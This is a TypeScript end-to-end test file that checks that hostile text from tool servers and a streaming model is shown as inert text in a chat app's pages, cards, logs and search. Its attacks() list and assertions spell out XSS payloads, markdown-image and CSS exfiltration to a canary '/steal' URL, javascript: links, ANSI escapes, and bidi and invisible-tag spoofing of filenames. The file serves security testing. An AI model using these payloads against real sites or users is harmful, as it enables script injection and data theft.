/** Text of servers and models that attacks whoever shows it, through every place where such text is shown. */
import { expect, test } from '../harness/test.ts';
import { callTool, openTool } from '../steps/by-hand.ts';
import { allowOnce, card, lastAnswer, newChat, readToEnd, send, unfold } from '../steps/chat.ts';
import { haveModel, haveServer } from '../steps/prepare.ts';
import { main, openServer, openTab, sidebar } from '../steps/servers.ts';
import { watchForEscapes } from '../support/canary.ts';
import { local } from '../support/entries.ts';
import { lastToolResult, offered, startModelEndpoint } from '../support/model-endpoint.ts';

test('hostile text of a server stays text: page, tools, results, errors, resources, prompts, log (T:B02, T:B07, T:C06, T:C07, P20)', { tag: '@twice' }, async ({ app }) => {
  test.setTimeout(120_000);
  const { page } = app;
  await using canary = await watchForEscapes(page);
  await haveServer(app, 'evil', local('evil-text'));
  // What the server calls itself, its version, its site and its instructions.
  await expect(main(page).getByText('<img src=x onerror="window.__pwned=1">').first()).toBeVisible();
  await expect(main(page).getByText('‹U+202E›').first()).toBeVisible();
  await expect(main(page).getByText('‹U+001B›').first()).toBeVisible();
  // What leads somewhere leads to another page of this window.
  await expect(main(page).locator('a:not([href^="#"])')).toHaveCount(0);
  await canary.expectUntouched('the overview');

  const tools = await openTab(page, 'Tools');
  await expect(tools.getByRole('listitem').first()).toBeVisible();
  await canary.expectUntouched('the list of tools');
  for (const kind of ['xssImg', 'xssScript', 'xssSvg', 'markdownImage', 'html', 'ansi', 'bidi', 'tags', 'loneSurrogate']) {
    await test.step(`results and errors with ${kind}`, async () => {
      if (kind === 'tags') {
        // Letters that only models read suspend a tool until somebody has looked (H03).
        const suspended = await openTool(page, `return-${kind}`);
        await expect(suspended).toContainText('This tool cannot be run while it is suspended.');
        await suspended.getByRole('button', { name: 'Accept the new definition' }).click();
      }
      await expect(await callTool(page, `return-${kind}`, {})).toContainText('file:///etc/passwd');
      await expect(await callTool(page, `fail-${kind}`, {})).toContainText('The tool reports an error');
      const article = await openTool(page, `throw-${kind}`);
      await article.getByRole('button', { name: 'Run' }).click();
      await expect(article.getByRole('alert')).toContainText('evil reports: ');
      await canary.expectUntouched(`results with ${kind}`);
    });
  }
  await expect(main(page).getByText('A'.repeat(1000))).toHaveCount(0);

  const resources = await openTab(page, 'Resources');
  await resources.getByRole('listitem').getByRole('button', { name: 'fixture://evil/html' }).click();
  await expect(resources.getByText('<form action="https://canary.invalid">').last()).toBeVisible();
  await canary.expectUntouched('resources');
  const prompts = await openTab(page, 'Prompts');
  await prompts.getByRole('textbox', { name: 'Filter prompts' }).fill('prompt-markdownImage');
  await prompts.getByRole('listitem').getByRole('button', { name: 'prompt-markdownImage' }).click();
  await prompts.getByRole('article').getByRole('button', { name: 'Show messages' }).click();
  await expect(prompts.getByText('canary.invalid').last()).toBeVisible();
  await canary.expectUntouched('prompts');
  const log = await openTab(page, 'Log');
  await expect(log.getByText('‹U+').first()).toBeVisible();
  await canary.expectUntouched('the log');
});

test('hostile text in a chat: the answer as it streams, the card, the result, the title, the search (T:B01, T:B02, T:B07, T:C06, T:C07, T:C10)', { tag: '@twice' }, async ({ app }) => {
  test.setTimeout(120_000);
  const { page } = app;
  await using canary = await watchForEscapes(page);
  const text = attacks(canary.url);
  await using model = await startModelEndpoint((request) => {
    const last = lastToolResult(request);
    // Of so many it looks for the one it needs.
    if (last === null) return { kind: 'call', tool: offered(request, 'find_tools').name, arguments: { query: 'return-xssImg' } };
    if (!last.includes('among your tools')) return { kind: 'stream', pieces: inPieces(text), everyMs: 1 };
    return { kind: 'call', tool: offered(request, 'return-xssImg').name, arguments: { note: 'photo_\u202Egpj.exe', more: 'a\u{E0069}\u{E0067}b', '<img src=x onerror="window.__pwned=1">': text } };
  });
  await haveModel(app, model);
  await haveServer(app, 'evil', local('evil-text'));
  await newChat(page);
  await send(page, `Look at this: ${text}`);

  await test.step('the card', async () => {
    await expect(card(page)).toContainText('photo_‹U+202E›gpj.exe');
    await expect(card(page)).toContainText('a‹U+E0069›‹U+E0067›b');
    await expect(card(page)).toContainText('The arguments contain characters that cannot be seen.');
    await canary.expectUntouched('the card');
    // What is not read to its end cannot be allowed.
    await expect(card(page)).toContainText('Read to the end to allow');
    await expect(card(page).getByRole('button', { name: 'Allow once' })).toBeDisabled();
    await readToEnd(page);
    await allowOnce(page);
  });
  await test.step('the answer', async () => {
    await expect(lastAnswer(page)).toContainText('the end of it');
    await unfold(lastAnswer(page).getByRole('region', { name: /^evil: / }));
    await canary.expectUntouched('the answer');
    // A picture from elsewhere is named, not loaded.
    await expect(lastAnswer(page).locator('img')).toHaveCount(0);
    await expect(lastAnswer(page)).toContainText('127.0.0.1');
  });
  await test.step('again after a reload, and in the search', async () => {
    await page.reload();
    await expect(lastAnswer(page)).toContainText('the end of it');
    await canary.expectUntouched('the answer after a reload');
    await sidebar(page).getByRole('button', { name: 'History' }).click();
    await main(page).getByRole('searchbox').fill('onerror');
    await expect(main(page).locator('mark').first()).toBeVisible();
    await canary.expectUntouched('the search');
  });
  await openServer(page, 'evil');
  await canary.expectUntouched('the whole of it');
});

/** What a hostile model writes, the classics of each kind. */
function attacks(canary: string): string {
  return [
    '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script><svg onload="window.__pwned=1"><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    `![a](${canary}/steal?q=1) ![b][ref] <img srcset="${canary}/steal?q=2 1x"> <link rel="prefetch" href="${canary}/steal?q=3"> <video poster="${canary}/steal?q=4"></video>`,
    `[ref]: ${canary}/steal?q=5`,
    '[click](javascript:window.__pwned=1) [data](data:text/html,<script>window.__pwned=1</script>) [tab](java\tscript:window.__pwned=1) <javascript:window.__pwned=1>',
    '![" onerror="window.__pwned=1](x) [x](" onmouseover="window.__pwned=1) ![x](x"onerror="window.__pwned=1)',
    '```html\n<img src=x onerror=window.__pwned=1>\n```',
    '```mermaid\ngraph TD; A["<img src=x onerror=window.__pwned=1>"]\n```',
    '$$\\href{javascript:window.__pwned=1}{x} \\includegraphics{x} \\html@mathml{a}{b}$$',
    '| a | b |\n|---|---|\n| <style>*{display:none}</style> | <a href="javascript:window.__pwned=1">x</a> |',
    `<div style="background:url(${canary}/steal?q=6);position:fixed;inset:0">over everything</div>`,
    '\u001B[2J\u001B]8;;file:///etc/passwd\u0007link\u001B]8;;\u0007 safe-\u202Etxt.exe\u202C',
    'and this is the end of it',
  ].join('\n\n');
}

/** Cut at awkward places: no border of a piece is a border of a token. */
function* inPieces(text: string): Generator<string> {
  for (let at = 0; at < text.length; at += 7) yield text.slice(at, at + 7);
}
